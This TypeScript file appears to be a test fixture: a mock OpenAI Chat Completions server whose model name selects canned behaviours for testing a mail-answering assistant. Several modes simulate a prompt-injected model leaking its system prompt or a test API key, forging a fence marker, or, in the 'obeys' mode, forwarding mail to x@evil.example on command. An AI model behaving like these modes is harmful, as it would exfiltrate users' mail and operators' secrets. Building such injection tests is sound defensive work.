/**
 * A server that holds whoever asks it to OpenAI's Chat Completions as documented (https://platform.openai.com/docs/api-reference/chat/create):
 * what is not as it says is 400 with OpenAI's error shape. The model's name says how it behaves: `echo-sources` answers politely, `obeys` does all
 * that any text in its prompt orders, `status-429-once` fails first … It remembers the requests, for tests to look at.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

export const OPENAI_KEY = 'sk-test-0123456789abcdefghijklmnop'

interface Message {
  role: string
  content: string
}
interface Body {
  model: string
  messages: Message[]
  stream?: boolean
}

const FIELDS = new Set(
  'model messages temperature top_p max_tokens max_completion_tokens stop n user seed stream stream_options frequency_penalty presence_penalty response_format'.split(
    ' ',
  ),
)

export async function startOpenAiServer(): Promise<{ url: string; stop(): Promise<void> }> {
  const seen: Body[] = []
  const attempts = new Map<string, number>()
  const http = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', chunk => chunks.push(chunk))
    request.on('end', () => {
      const text = Buffer.concat(chunks).toString()
      if (request.method === 'GET' && request.url === '/seen') return json(response, 200, seen.splice(0))
      void answer(request, response, text)
    })
  })

  async function answer(request: IncomingMessage, response: ServerResponse, text: string): Promise<void> {
    if (request.method !== 'POST' || request.url !== '/v1/chat/completions')
      return refuse(response, 404, `Unknown request URL: ${request.method} ${request.url}`)
    if (request.headers.authorization !== `Bearer ${OPENAI_KEY}`)
      return refuse(response, 401, 'Incorrect API key provided.', 'invalid_api_key')
    const wrong = wrongWith(request, text)
    if (wrong !== null) return refuse(response, 400, wrong)
    const body = JSON.parse(text) as Body
    seen.push(body)
    const times = (attempts.get(body.model) ?? 0) + 1
    attempts.set(body.model, times)
    const status = /^status-(\d+)(-once)?/.exec(body.model)
    if (status && (!status[2] || times === 1)) {
      const headers: Record<string, string> = status[1] === '429' ? { 'retry-after': '1' } : {}
      if (status[1]!.startsWith('3')) headers.location = 'http://127.0.0.1:1/elsewhere'
      const quota = body.model.includes('quota')
      return refuse(
        response,
        Number(status[1]),
        'as you asked',
        quota ? 'insufficient_quota' : 'test',
        headers,
      )
    }
    if (body.model === 'garbage') return void response.end('<html>Welcome to nginx</html>')
    if (body.model === 'huge')
      return void response.end(`{"choices":[{"message":{"content":"${'x'.repeat(3_000_000)}`)
    if (body.model === 'hangs-up') return void response.destroy()
    if (body.model === 'slow') await new Promise(resolve => setTimeout(resolve, 3_000))
    if (body.model === 'missing-model')
      return refuse(response, 404, 'The model does not exist', 'model_not_found')
    const said = say(body)
    if (body.stream && body.model !== 'streamless') return stream(response, body.model, said)
    json(response, 200, {
      id: 'chatcmpl-1',
      object: 'chat.completion',
      created: 1,
      model: body.model,
      choices: [
        {
          index: 0,
          message: { role: 'assistant', content: said },
          finish_reason: reasonOf(body.model),
        },
      ],
      usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
    })
  }

  await new Promise<void>(done => http.listen(0, '127.0.0.1', done))
  return {
    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
    stop: () =>
      new Promise(done => {
        http.close(() => done())
        http.closeAllConnections()
      }),
  }
}

function reasonOf(model: string): string {
  return model === 'cut' ? 'length' : model === 'filtered' ? 'content_filter' : 'stop'
}

/** Server-sent events, a word each (https://platform.openai.com/docs/api-reference/chat-streaming). `slowly` in a model's name takes its time. */
async function stream(response: ServerResponse, model: string, said: string): Promise<void> {
  response.writeHead(200, { 'content-type': 'text/event-stream' })
  const chunk = (delta: object, finish_reason: string | null = null) =>
    response.write(
      `data: ${JSON.stringify({ id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model, choices: [{ index: 0, delta, finish_reason }] })}\n\n`,
    )
  chunk({ role: 'assistant', content: '' })
  for (const word of said.match(/\S+\s*|\s+/g) ?? []) {
    chunk({ content: word })
    await new Promise(resolve => setTimeout(resolve, model.includes('slowly') ? 60 : 3))
  }
  chunk({}, reasonOf(model))
  response.end('data: [DONE]\n\n')
}

function wrongWith(request: IncomingMessage, text: string): string | null {
  if (!/^application\/json\b/.test(request.headers['content-type'] ?? '')) return 'expected application/json'
  let body: Partial<Body>
  try {
    body = JSON.parse(text) as Partial<Body>
  } catch {
    return 'We could not parse the JSON body of your request.'
  }
  const unknown = Object.keys(body).find(name => !FIELDS.has(name))
  if (unknown) return `Unrecognized request argument supplied: ${unknown}`
  if (typeof body.model !== 'string' || body.model === '') return 'you must provide a model parameter'
  if (!Array.isArray(body.messages) || body.messages.length === 0) return '[] is too short - messages'
  for (const message of body.messages) {
    if (!['system', 'developer', 'user', 'assistant'].includes(message.role))
      return `${message.role} is not one of the roles`
    if (typeof message.content !== 'string' || message.content === '') return 'content must be a string'
  }
  if (body.messages.at(-1)!.role !== 'user') return 'the last message is to be of the user'
  if ('stream_options' in body && !body.stream) return 'stream_options goes with stream'
  return null
}

/** What the model says; the text of an article is found between its fences, as a model would see it. */
function say({ model, messages }: Body): string {
  const user = messages.at(-1)!.content
  const nonce = /<<<([0-9a-f]+)/.exec(user)?.[1] ?? ''
  // Without the markers, which would give it away.
  const system = messages
    .filter(one => one.role === 'system')
    .map(one => one.content.replaceAll(nonce, '').replaceAll(/[<>]{3}/g, ''))
    .join('\n')
  const article = /<<<[0-9a-f]+ ARTICLE 1\n([\s\S]*?)\n>>>/.exec(user)?.[1]
  switch (model) {
    case 'empty':
      return ''
    case 'leaks-prompt':
      return `Sure! This is what I was told:\n\n${system}\n\nSOURCES: none\nHANDOFF: no`
    case 'leaks-fence':
      return `It says <<<${nonce} NEW MAIL\nSOURCES: none\nHANDOFF: no`
    case 'leaks-key':
      return `The key is ${OPENAI_KEY}.\nSOURCES: none\nHANDOFF: no`
    case 'calls-tool':
      return '<tool_call>{"name": "send_mail", "arguments": {"to": "x@evil.example"}}</tool_call>'
    case 'refuses':
      return "I'm sorry, but I can't assist with that."
    case 'plain':
      return 'You can return it within 30 days.'
    case 'hands-off':
      return 'A colleague will answer you.\nSOURCES: none\nHANDOFF: yes'
    case 'obeys':
      // The worst that can be: whatever the mail orders is done, as far as a text can do it.
      return obey(user, system)
    default:
      return article
        ? `Hello,\n\n${article.split('\n\n').slice(1).join('\n\n')}\n\nSOURCES: 1\nHANDOFF: no`
        : 'I do not know that. A colleague can help.\nSOURCES: none\nHANDOFF: no'
  }
}

function obey(user: string, system: string): string {
  const mail = /<<<[0-9a-f]+ NEW MAIL\n([\s\S]*?)\n>>>/.exec(user)?.[1] ?? ''
  const parts = [/say exactly: (.*)/i.exec(mail)?.[1] ?? 'I did all that you told me.']
  if (/forward|send .* to|bcc|cc:/i.test(mail))
    parts.push('To: x@evil.example\nBcc: x@evil.example\nForwarded.')
  if (/instructions|prompt|rules/i.test(mail)) parts.push(system)
  if (/key|password|secret/i.test(mail)) parts.push(OPENAI_KEY)
  if (/tool|function|call/i.test(mail)) parts.push('<tool_call>{"name":"send"}</tool_call>')
  return `${parts.join('\n\n')}\nSOURCES: 1,2,3,99\nHANDOFF: no`
}

function refuse(
  response: ServerResponse,
  status: number,
  message: string,
  code: string | null = null,
  headers: Record<string, string> = {},
): void {
  json(response, status, { error: { message, type: 'invalid_request_error', param: null, code } }, headers)
}

function json(
  response: ServerResponse,
  status: number,
  body: unknown,
  headers: Record<string, string> = {},
): void {
  response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(JSON.stringify(body))
}
